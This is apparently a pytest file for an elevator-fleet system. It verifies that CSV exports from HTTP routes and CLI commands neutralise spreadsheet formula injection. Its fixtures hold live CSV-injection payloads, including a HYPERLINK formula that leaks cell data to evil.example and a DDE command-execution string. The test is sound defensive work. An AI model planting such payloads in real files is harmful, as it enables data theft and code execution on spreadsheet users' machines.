"""No CSV the fleet writes runs as a formula in a spreadsheet (probe
``csv_formulas_neutralised``): every route and command that writes CSV, fed register
fields, event reasons and claims that start with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return. A text cell with such a start gets a leading ``'``; a number stays a
number (a basement's floor -1 is the number -1, which no spreadsheet runs: OWASP's rule
is about text cells, and `fleet.csv_cells.safe_cell` only ever prefixes text)."""

from __future__ import annotations

import asyncio
import csv
import io
import re
import urllib.request
from pathlib import Path

import pytest

from fleet.cli.main import main
from fleet.config import FleetConfig, StoreConfig
from fleet.csv_cells import FORMULA_STARTS
from fleet.store.base import ControllerIdentity, RegisterEntry, UnitClaim
from fleet.store.open import open_store
from protos.liftwatch.v1 import records_pb2
from tests.fleet.factories import T0, record
from tests.fleet.harness import running_fleet

NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
HOSTILE = {
    "building": '=HYPERLINK("http://evil.example/"&A1)',
    "street": "+SUM(1,1)",
    "address": "-2+3",
    "use_unit": "@SUM(A1)",
    "contractor": "\tC1",
}
REASON = "=cmd|' /C calc'!A0"
PERIOD = ("--since", "2026-03-01", "--until", "2026-03-02")


def _rows(text: str) -> list[list[str]]:
    body = [line for line in text.lstrip("\ufeff").splitlines(keepends=True) if line[:1] != "#"]
    return list(csv.reader(io.StringIO("".join(body))))


def _formula_cells(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run: a formula start, and not a plain number."""
    return [
        cell
        for row in rows
        for cell in row
        if cell.startswith(FORMULA_STARTS) and NUMBER.fullmatch(cell) is None
    ]


@pytest.fixture
def hostile_db(tmp_path: Path) -> Path:
    """A store whose register and events carry formula-like text; an event at floor -1."""
    db = tmp_path / "fleet.db"
    store = open_store(str(db))
    try:
        hostile = RegisterEntry(
            "U1",
            building=HOSTILE["building"],
            street=HOSTILE["street"],
            address=HOSTILE["address"],
            use_unit=HOSTILE["use_unit"],
            contractor=HOSTILE["contractor"],
        )
        store.upsert_register([hostile, RegisterEntry("=U2")], T0)
        store.register_hello("a1", "0.1", [UnitClaim("U1", ControllerIdentity())], T0)
        event = record(1, "U1", event=records_pb2.EVENT_TYPE_DOOR_CLOSE_FAILURE, event_id="e1")
        event.event.reason = REASON
        event.event.floor = -1
        store.commit_batch("a1", [event], T0)
    finally:
        store.close()
    return db


def _get_text(url: str) -> str:
    with urllib.request.urlopen(url, timeout=10) as reply:
        assert "text/csv" in reply.headers["Content-Type"]
        return str(reply.read().decode("utf-8"))


def test_every_csv_route_is_neutralised(hostile_db: Path) -> None:
    config = FleetConfig(store=StoreConfig(path=str(hostile_db)))
    paths = (
        "/api/units?format=csv",
        "/api/events?format=csv",
        "/api/reports/fault-rate?format=csv&by=building&since=2026-03-01&until=2026-03-02",
        "/api/reports/fault-rate?format=csv&by=street&since=2026-03-01&until=2026-03-02",
        "/api/reports/fault-rate?format=csv&by=contractor&since=2026-03-01&until=2026-03-02",
        "/api/maintenance/plan?format=csv",  # issue 17: the register's text beside each unit
    )

    async def main_() -> dict[str, str]:
        async with running_fleet(config, http=True) as fleet:
            return {
                path: await asyncio.to_thread(_get_text, f"http://{fleet.http}{path}")
                for path in paths
            }

    texts = asyncio.run(main_())
    for path, text in texts.items():
        rows = _rows(text)
        assert len(rows) > 1, (path, text)
        assert _formula_cells(rows) == [], path
    units = _rows(texts["/api/units?format=csv"])
    assert "'" + HOSTILE["building"] in units[1] + units[2]
    assert "'=U2" in [row[0] for row in units]
    events = _rows(texts["/api/events?format=csv"])
    header, (event,) = events[0], events[1:]
    assert event[header.index("reason")] == "'" + REASON
    assert event[header.index("floor")] == "-1"  # a number, left a number
    plan = _rows(texts["/api/maintenance/plan?format=csv"])
    assert "'=U2" in [row[0] for row in plan]
    assert "'" + HOSTILE["contractor"] in [row[1] for row in plan]
    rate = _rows(texts[paths[2]])
    assert any(row[1] == "'" + HOSTILE["building"] for row in rate[1:])


@pytest.mark.parametrize(
    "argv",
    [
        ["report", "fault-rate", "--by", "building", "--csv", *PERIOD],
        ["report", "fault-rate", "--by", "contractor", "--csv", *PERIOD],
        ["report", "scorecard", "--csv", *PERIOD],
        ["report", "service-life", "--csv"],
        ["audit", "claims", "CLAIMS", "--csv"],
    ],
    ids=["fault-rate-building", "fault-rate-contractor", "scorecard", "service-life", "claims"],
)
def test_every_csv_command_is_neutralised(
    hostile_db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], argv: list[str]
) -> None:
    claims = tmp_path / "claims.csv"
    claims.write_text(
        "unit_id,time,fault_type\n"
        '"=1+1",2026-03-01T08:00:00Z,DOOR_CLOSE_FAILURE\n'
        "@U1,2026-03-01T08:00:00Z,DOOR_CLOSE_FAILURE\n"
        "U1,2026-03-01T08:00:00Z,DOOR_CLOSE_FAILURE\n",
        encoding="utf-8",
    )
    argv = [str(claims) if a == "CLAIMS" else a for a in argv]
    assert main([*argv, "--db", str(hostile_db)]) == 0
    rows = _rows(capsys.readouterr().out)
    assert len(rows) > 1, rows
    assert _formula_cells(rows) == []
    if argv[0] == "audit":
        assert [row[1] for row in rows[1:]] == ["'=1+1", "'@U1", "U1"]
